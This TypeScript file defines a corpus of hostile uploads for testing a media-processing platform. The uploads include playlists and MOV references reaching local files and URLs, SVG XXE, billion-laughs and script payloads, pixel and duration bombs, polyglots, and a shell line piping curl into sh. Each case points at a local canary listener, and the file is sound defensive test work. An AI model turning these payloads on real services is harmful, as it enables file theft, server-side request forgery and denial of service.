import sharp from 'sharp';
import {
  bmpClaiming,
  gifClaiming,
  jpegClaiming,
  pngBomb,
  pngClaiming,
  psdClaiming,
  tiffClaiming,
  webpClaiming,
} from './support/image-bombs.ts';
import {
  absurdDuration,
  absurdMatroskaDuration,
  absurdMatroskaSize,
  externalDref,
  replaceBoxes,
} from './support/iso-boxes.ts';
import { gab2Packet, mjpegAvi } from './support/riff-avi.ts';
import {
  corrupted,
  IMAGE_FORMATS,
  sampleAudio,
  sampleImage,
  sampleVideo,
  truncated,
  VIDEO_FORMATS,
  type VideoFormat,
} from './support/samples.ts';
import type { Canary } from './support/watchers.ts';

/**
 * The hostile corpus: files a malicious or careless user might upload, each sent through the
 * public API (upload, then a job with a tool that takes it). hostile-corpus.test.ts runs every
 * case and checks the platform refuses it or processes it safely.
 */

export interface CaseContext {
  canary: Canary;
  /** Port of the TCP+UDP listener every planted URL points at. */
  port: number;
}

export interface HostileFile {
  bytes: Buffer;
  /** The name the client claims. */
  name: string;
}

export interface HostileCase {
  group: string;
  name: string;
  make(ctx: CaseContext): Promise<HostileFile> | HostileFile;
  /**
   * `refused`: must not produce an output (refused at upload, at job creation or failed by the
   * worker); `upload`: refused at upload already; `safe`: may be processed, safely.
   */
  expect: 'refused' | 'upload' | 'safe';
  /** The tool to run (default: rotate-flip-video for video, resize-image for images). */
  tool?: { name: string; params: Record<string, unknown> };
  /** A word the refusal must contain (besides the generic checks). */
  says?: RegExp;
}

const text = (s: string) => Buffer.from(s, 'utf8');
const url = (ctx: CaseContext, path: string, scheme = 'http') => `${scheme}://127.0.0.1:${ctx.port}/${path}`;

// ---------------------------------------------------------------------------------------------
// Playlists and lists: text files that make a demuxer open other files or URLs.

const playlists: HostileCase[] = [
  {
    group: 'playlist',
    name: 'HLS playlist naming a URL and a local segment',
    expect: 'upload',
    make: (ctx) => ({
      name: 'stream.m3u8',
      bytes: text(
        `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n${url(ctx, 'seg.ts')}\n#EXTINF:1,\n${ctx.canary.video}\n#EXT-X-ENDLIST\n`,
      ),
    }),
  },
  {
    group: 'playlist',
    name: 'HLS playlist of a local file, named .mp4',
    expect: 'upload',
    make: (ctx) => ({
      name: 'holiday.mp4',
      bytes: text(`#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n${ctx.canary.video}\n#EXT-X-ENDLIST\n`),
    }),
  },
  {
    group: 'playlist',
    name: 'HLS playlist with file:// and relative segments, named .ts',
    expect: 'upload',
    make: (ctx) => ({
      name: 'clip.ts',
      bytes: text(
        `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nfile://${ctx.canary.video}\n#EXTINF:1,\n../../../../../..${ctx.canary.video}\n#EXT-X-ENDLIST\n`,
      ),
    }),
  },
  {
    group: 'playlist',
    name: 'HLS playlist fetching an AES key from a URL',
    expect: 'upload',
    make: (ctx) => ({
      name: 'encrypted.m3u8',
      bytes: text(
        `#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-KEY:METHOD=AES-128,URI="${url(ctx, 'key')}"\n#EXTINF:1,\n${ctx.canary.video}\n#EXT-X-ENDLIST\n`,
      ),
    }),
  },
  {
    group: 'playlist',
    name: 'HLS master playlist pointing at a variant URL',
    expect: 'upload',
    make: (ctx) => ({
      name: 'master.m3u8',
      bytes: text(`#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1000\n${url(ctx, 'variant.m3u8')}\n`),
    }),
  },
  {
    group: 'playlist',
    name: 'ffconcat list of a local file, named .mp4',
    expect: 'upload',
    make: (ctx) => ({ name: 'list.mp4', bytes: text(`ffconcat version 1.0\nfile '${ctx.canary.video}'\n`) }),
  },
  {
    group: 'playlist',
    name: 'ffconcat list of a URL and a subfile',
    expect: 'upload',
    make: (ctx) => ({
      name: 'list.ffconcat',
      bytes: text(
        `ffconcat version 1.0\nfile '${url(ctx, 'a.mp4')}'\nfile 'subfile,,start,0,end,100,,:${ctx.canary.text}'\n`,
      ),
    }),
  },
  {
    group: 'playlist',
    name: 'DASH manifest with a remote BaseURL',
    expect: 'upload',
    make: (ctx) => ({
      name: 'manifest.mpd',
      bytes: text(
        `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><BaseURL>${url(ctx, '')}</BaseURL><Period><AdaptationSet><Representation id="1" bandwidth="1"><SegmentBase/></Representation></AdaptationSet></Period></MPD>`,
      ),
    }),
  },
  {
    group: 'playlist',
    name: 'SDP session sending RTP to a port',
    expect: 'upload',
    make: (ctx) => ({
      name: 'session.sdp',
      bytes: text(
        `v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=video ${ctx.port} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n`,
      ),
    }),
  },
  {
    group: 'playlist',
    name: 'SRT subtitle file named .mkv',
    expect: 'upload',
    make: () => ({ name: 'movie.mkv', bytes: text('1\n00:00:00,000 --> 00:00:01,000\nhello\n') }),
  },
];

// ---------------------------------------------------------------------------------------------
// Media that reference other files: MOV data references, GAB2 subtitles in AVI.

async function movWithDref(location: string, kind: 'url ' | 'alis' = 'url '): Promise<Buffer> {
  // ffmpeg's mov muxer puts the index (moov) after the data, so the dref may grow.
  return replaceBoxes(await sampleVideo('mov'), 'dref', () => externalDref(location, kind));
}

async function jpegFrames(count: number, size = { width: 160, height: 120 }): Promise<Buffer[]> {
  const frames: Buffer[] = [];
  for (let i = 0; i < count; i++) {
    frames.push(
      await sharp({ create: { ...size, channels: 3, background: { r: i * 20, g: 90, b: 200 } } })
        .jpeg()
        .toBuffer(),
    );
  }
  return frames;
}

const references: HostileCase[] = [
  {
    group: 'reference',
    name: 'MOV whose samples live in a local file (url dref)',
    expect: 'safe',
    make: async (ctx) => ({ name: 'dref-local.mov', bytes: await movWithDref(ctx.canary.video) }),
  },
  {
    group: 'reference',
    name: 'MOV whose samples live at a URL (url dref)',
    expect: 'safe',
    make: async (ctx) => ({ name: 'dref-url.mov', bytes: await movWithDref(url(ctx, 'media.mov')) }),
  },
  {
    group: 'reference',
    name: 'MOV with an Apple alias to a local file (alis dref)',
    expect: 'safe',
    make: async (ctx) => ({ name: 'dref-alias.mov', bytes: await movWithDref(ctx.canary.video, 'alis') }),
  },
  {
    group: 'reference',
    name: 'MOV with a relative dref climbing out of its directory',
    expect: 'safe',
    make: async (ctx) => ({
      name: 'dref-relative.mov',
      bytes: await movWithDref(`../../../../../../../..${ctx.canary.video}`),
    }),
  },
  {
    group: 'reference',
    name: 'AVI with a GAB2 subtitle that is an HLS playlist (local file and URL)',
    expect: 'safe',
    make: async (ctx) => ({
      name: 'gab2-hls.avi',
      bytes: mjpegAvi({
        frames: await jpegFrames(10),
        width: 160,
        height: 120,
        gab2: gab2Packet(
          'English',
          `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\n${ctx.canary.video}\n#EXTINF:1,\n${url(ctx, 'x.ts')}\n#EXT-X-ENDLIST\n`,
        ),
      }),
    }),
  },
  {
    group: 'reference',
    name: 'AVI with a GAB2 subtitle that is an ffconcat list',
    expect: 'safe',
    make: async (ctx) => ({
      name: 'gab2-concat.avi',
      bytes: mjpegAvi({
        frames: await jpegFrames(10),
        width: 160,
        height: 120,
        gab2: gab2Packet('English', `ffconcat version 1.0\nfile '${ctx.canary.video}'\n`),
      }),
    }),
  },
];

// ---------------------------------------------------------------------------------------------
// Truncated and corrupt media of each format.

const damaged: HostileCase[] = [
  ...VIDEO_FORMATS.map(
    (format): HostileCase => ({
      group: 'damaged',
      name: `${format} cut at 45 %`,
      expect: 'safe',
      make: async () => ({ name: `cut.${format}`, bytes: truncated(await sampleVideo(format)) }),
    }),
  ),
  ...(['mp4', 'mkv', 'avi', 'wmv'] as VideoFormat[]).map(
    (format): HostileCase => ({
      group: 'damaged',
      name: `${format} with its middle overwritten`,
      expect: 'safe',
      make: async () => ({ name: `noise.${format}`, bytes: corrupted(await sampleVideo(format)) }),
    }),
  ),
  ...IMAGE_FORMATS.map(
    (format): HostileCase => ({
      group: 'damaged',
      name: `${format} cut at 45 %`,
      expect: 'safe',
      make: async () => ({ name: `cut.${format}`, bytes: truncated(await sampleImage(format)) }),
    }),
  ),
  ...['png', 'jpg', 'gif', 'webp', 'tiff', 'bmp', 'psd'].map(
    (format): HostileCase => ({
      group: 'damaged',
      name: `${format} with its middle overwritten`,
      expect: 'safe',
      make: async () => ({ name: `noise.${format}`, bytes: corrupted(await sampleImage(format)) }),
    }),
  ),
];

// ---------------------------------------------------------------------------------------------
// Pixel bombs and absurd headers.

/** An audio job for the audio cases: the converter every audio file may go to. */
const AUDIO_TOOL = { name: 'audio-converter', params: { format: 'mp3' } };

const bombs: HostileCase[] = [
  {
    group: 'bomb',
    name: 'PNG header claiming 30000×30000 over a few bytes',
    expect: 'refused',
    says: /\(\d+ MP\); the limit is \d+ MP\./,
    make: () => ({ name: 'claims.png', bytes: pngClaiming(30_000, 30_000) }),
  },
  {
    group: 'bomb',
    name: 'PNG decompression bomb: a valid 30000×30000 image in ~110 KB',
    expect: 'refused',
    says: /\(\d+ MP\); the limit is \d+ MP\./,
    make: async () => ({ name: 'bomb.png', bytes: await pngBomb(30_000) }),
  },
  {
    group: 'bomb',
    name: 'JPEG frame header claiming 65000×65000',
    expect: 'refused',
    make: async () => ({ name: 'claims.jpg', bytes: jpegClaiming(await sampleImage('jpg'), 65_000, 65_000) }),
  },
  {
    group: 'bomb',
    name: 'GIF screen and frame claiming 65535×65535',
    expect: 'refused',
    make: () => ({ name: 'claims.gif', bytes: gifClaiming() }),
  },
  {
    group: 'bomb',
    name: 'WebP canvas claiming 16384×16384',
    expect: 'refused',
    make: () => ({ name: 'claims.webp', bytes: webpClaiming() }),
  },
  {
    group: 'bomb',
    name: 'TIFF claiming 100000×100000',
    expect: 'refused',
    make: () => ({ name: 'claims.tiff', bytes: tiffClaiming() }),
  },
  {
    group: 'bomb',
    name: 'BMP claiming 50000×50000',
    expect: 'refused',
    make: () => ({ name: 'claims.bmp', bytes: bmpClaiming() }),
  },
  {
    group: 'bomb',
    name: 'PSD claiming 30000×30000',
    expect: 'refused',
    make: () => ({ name: 'claims.psd', bytes: psdClaiming() }),
  },
  {
    group: 'bomb',
    name: 'SVG of 100000×100000 user units',
    expect: 'refused',
    make: () => ({
      name: 'huge.svg',
      bytes: text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="100000" height="100000"><rect width="100%" height="100%" fill="red"/></svg>',
      ),
    }),
  },
  {
    group: 'bomb',
    name: 'MJPEG AVI whose headers claim 60000×60000 (frames are 160×120)',
    expect: 'safe',
    make: async () => ({
      name: 'claims.avi',
      bytes: mjpegAvi({
        frames: await jpegFrames(10),
        width: 160,
        height: 120,
        claimedSize: { width: 60_000, height: 60_000 },
      }),
    }),
  },
  {
    group: 'bomb',
    name: 'MJPEG AVI whose JPEG frames claim 30000×30000',
    expect: 'refused',
    make: async () => {
      const frame = jpegClaiming((await jpegFrames(1))[0], 30_000, 30_000);
      return {
        name: 'frames.avi',
        bytes: mjpegAvi({ frames: Array(10).fill(frame), width: 160, height: 120 }),
      };
    },
  },
  {
    group: 'bomb',
    name: 'WebM whose track claims 65535×65535',
    expect: 'safe',
    make: async () => ({ name: 'claims.webm', bytes: absurdMatroskaSize(await sampleVideo('webm')) }),
  },
  {
    group: 'bomb',
    name: 'MP4 whose headers claim a 136-year duration',
    expect: 'safe',
    make: async () => ({ name: 'forever.mp4', bytes: absurdDuration(await sampleVideo('mp4')) }),
  },
  {
    group: 'bomb',
    name: 'WebM whose header claims a 31,000-year duration',
    expect: 'safe',
    make: async () => ({ name: 'forever.webm', bytes: absurdMatroskaDuration(await sampleVideo('webm')) }),
  },
  {
    group: 'bomb',
    name: 'MP3 whose Info header claims 2 billion frames (1.8 years)',
    expect: 'refused',
    tool: AUDIO_TOOL,
    says: /long; the limit is/,
    make: async () => ({ name: 'forever.mp3', bytes: absurdMp3FrameCount(await sampleAudio('mp3')) }),
  },
  {
    group: 'bomb',
    name: 'WAV whose RIFF header claims 4 GB of samples',
    expect: 'safe',
    tool: AUDIO_TOOL,
    make: async () => ({ name: 'forever.wav', bytes: absurdWavSize(await sampleAudio('wav')) }),
  },
];

/** The Xing/Info header's frame count (flags bit 0) set to 2^31 − 1: its length comes from there. */
function absurdMp3FrameCount(mp3: Buffer): Buffer {
  const out = Buffer.from(mp3);
  const tag = Math.max(out.indexOf('Info'), out.indexOf('Xing'));
  if (tag < 0 || (out.readUInt32BE(tag + 4) & 1) === 0) throw new Error('the sample MP3 has no frame count');
  out.writeUInt32BE(0x7fffffff, tag + 8);
  return out;
}

/** The RIFF and data chunk sizes set near 4 GB on a one-second WAV. */
function absurdWavSize(wav: Buffer): Buffer {
  const out = Buffer.from(wav);
  out.writeUInt32LE(0xfffffff0, 4);
  const data = out.indexOf('data');
  out.writeUInt32LE(0xfffffff0 - data, data + 4);
  return out;
}

// ---------------------------------------------------------------------------------------------
// SVG: XML and CSS features that read files, reach the network or run code.

const svg = (body: string, prolog = '') =>
  text(
    `${prolog}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="48">${body}</svg>`,
  );

const svgCases: Array<[string, (ctx: CaseContext) => Buffer]> = [
  [
    'external entity reading a local file (XXE)',
    (ctx) =>
      svg(
        '<text y="20">&secret;</text>',
        `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY secret SYSTEM "file://${ctx.canary.text}">]>`,
      ),
  ],
  [
    'entity expansion (billion laughs)',
    () =>
      svg(
        '<text y="20">&l9;</text>',
        `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY l0 "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')}]>`,
      ),
  ],
  [
    'external DTD at a URL',
    (ctx) =>
      svg(
        '<rect width="10" height="10"/>',
        `<?xml version="1.0"?><!DOCTYPE svg SYSTEM "${url(ctx, 'svg.dtd')}">`,
      ),
  ],
  ['image href at a URL', (ctx) => svg(`<image href="${url(ctx, 'a.png')}" width="10" height="10"/>`)],
  [
    'image href to a local file',
    (ctx) => svg(`<image href="file://${ctx.canary.image}" width="10" height="10"/>`),
  ],
  [
    'xlink:href to a local file by relative path',
    (ctx) => svg(`<image xlink:href="../../../../../..${ctx.canary.image}" width="10" height="10"/>`),
  ],
  ['use of an element in another file', (ctx) => svg(`<use href="file://${ctx.canary.text}#x"/>`)],
  ['script element', (ctx) => svg(`<script>fetch("${url(ctx, 'js')}")</script><rect width="9" height="9"/>`)],
  ['onload handler', (ctx) => svg(`<rect width="9" height="9" onload="fetch('${url(ctx, 'on')}')"/>`)],
  [
    'foreignObject with an iframe',
    (ctx) =>
      svg(
        `<foreignObject width="60" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${url(ctx, 'frame')}"/></foreignObject>`,
      ),
  ],
  [
    'CSS @import of a URL',
    (ctx) => svg(`<style>@import url("${url(ctx, 'a.css')}");</style><rect width="9" height="9"/>`),
  ],
  [
    'CSS url() in a style attribute',
    (ctx) => svg(`<rect width="9" height="9" style="fill:url(${url(ctx, 'p.svg')}#p)"/>`),
  ],
  [
    'xml-stylesheet processing instruction',
    (ctx) =>
      svg(
        '<rect width="9" height="9"/>',
        `<?xml version="1.0"?><?xml-stylesheet href="${url(ctx, 's.css')}"?>`,
      ),
  ],
  [
    'XInclude of a local file',
    (ctx) =>
      svg(
        `<text y="20"><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${ctx.canary.text}" parse="text"/></text>`,
      ),
  ],
  [
    'data: URI holding an SVG that links to a URL',
    (ctx) => {
      const inner = Buffer.from(
        `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="${url(ctx, 'inner.png')}" width="9" height="9"/><image href="file://${ctx.canary.image}" width="9" height="9"/></svg>`,
      ).toString('base64');
      return svg(`<image href="data:image/svg+xml;base64,${inner}" width="20" height="20"/>`);
    },
  ],
];

const SAFE_SVGS = new Set(['external DTD at a URL', 'data: URI holding an SVG that links to a URL']);

const svgs: HostileCase[] = svgCases.map(([name, make], i) => ({
  group: 'svg',
  name: `SVG: ${name}`,
  // An external DTD without an internal subset declares nothing: librsvg does not fetch it (the
  // listener proves it), so the file may be rendered. Everything else must be refused.
  expect: SAFE_SVGS.has(name) ? 'safe' : 'refused',
  tool: { name: 'svg-to-png', params: {} },
  make: (ctx) => ({ name: `hostile-${i}.svg`, bytes: make(ctx) }),
}));

// ---------------------------------------------------------------------------------------------
// Polyglots, wrong extensions, empty files.

const polyglots: HostileCase[] = [
  {
    group: 'polyglot',
    name: 'HTML page named .png',
    expect: 'upload',
    make: (ctx) => ({
      name: 'photo.png',
      bytes: text(`<!doctype html><script>alert("${ctx.canary.marker}")</script>`),
    }),
  },
  {
    group: 'polyglot',
    name: 'PDF named .jpg',
    expect: 'upload',
    make: () => ({
      name: 'scan.jpg',
      bytes: text('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
    }),
  },
  {
    group: 'polyglot',
    name: 'ZIP named .mp4 (archives are outputs only)',
    expect: 'upload',
    make: () => ({
      name: 'video.mp4',
      bytes: Buffer.from('504b0506000000000000000000000000000000000000', 'hex'),
    }),
  },
  {
    group: 'polyglot',
    name: 'shell script named .mp4',
    expect: 'upload',
    make: () => ({ name: 'video.mp4', bytes: text('#!/bin/sh\ncurl http://example.invalid | sh\n') }),
  },
  {
    group: 'polyglot',
    name: 'HLS playlist followed by MP4 bytes',
    expect: 'upload',
    make: async (ctx) => ({
      name: 'mixed.mp4',
      bytes: Buffer.concat([text(`#EXTM3U\n#EXTINF:1,\n${ctx.canary.video}\n`), await sampleVideo('mp4')]),
    }),
  },
  {
    group: 'polyglot',
    name: 'GIF with a script appended (GIFAR-style)',
    expect: 'safe',
    make: async (ctx) => ({
      name: 'anim.gif',
      bytes: Buffer.concat([
        await sampleImage('gif'),
        text(`<script>alert("${ctx.canary.marker}")</script>`),
      ]),
    }),
  },
  {
    group: 'polyglot',
    name: 'JPEG with a script in a comment segment',
    expect: 'safe',
    make: async (ctx) => {
      const jpeg = await sampleImage('jpg');
      const comment = text(`<script>alert("${ctx.canary.marker}")</script>`);
      const segment = Buffer.alloc(4);
      segment.writeUInt16BE(0xfffe, 0);
      segment.writeUInt16BE(comment.length + 2, 2);
      return {
        name: 'commented.jpg',
        bytes: Buffer.concat([jpeg.subarray(0, 2), segment, comment, jpeg.subarray(2)]),
      };
    },
  },
  {
    group: 'polyglot',
    name: 'PNG with an HLS playlist after IEND',
    expect: 'safe',
    make: async (ctx) => ({
      name: 'tail.png',
      bytes: Buffer.concat([await sampleImage('png'), text(`#EXTM3U\n#EXTINF:1,\n${url(ctx, 'p.ts')}\n`)]),
    }),
  },
  {
    group: 'wrong-type',
    name: 'WebM named .mov, sent to mov-to-mp4',
    expect: 'refused',
    says: /webm/i,
    tool: { name: 'mov-to-mp4', params: {} },
    make: async () => ({ name: 'clip.mov', bytes: await sampleVideo('webm') }),
  },
  {
    group: 'wrong-type',
    name: 'PNG named .jpg, sent to jpg-to-png',
    expect: 'refused',
    says: /png/i,
    tool: { name: 'jpg-to-png', params: {} },
    make: async () => ({ name: 'photo.jpg', bytes: await sampleImage('png') }),
  },
  {
    group: 'empty',
    name: 'zero-byte .png',
    expect: 'upload',
    make: () => ({ name: 'empty.png', bytes: Buffer.alloc(0) }),
  },
  {
    group: 'empty',
    name: 'zero-byte .mp4',
    expect: 'upload',
    make: () => ({ name: 'empty.mp4', bytes: Buffer.alloc(0) }),
  },
  {
    group: 'empty',
    name: 'one-byte .jpg',
    expect: 'upload',
    make: () => ({ name: 'one.jpg', bytes: Buffer.from([0xff]) }),
  },
];

export const hostileCases: HostileCase[] = [
  ...playlists,
  ...references,
  ...damaged,
  ...bombs,
  ...svgs,
  ...polyglots,
];
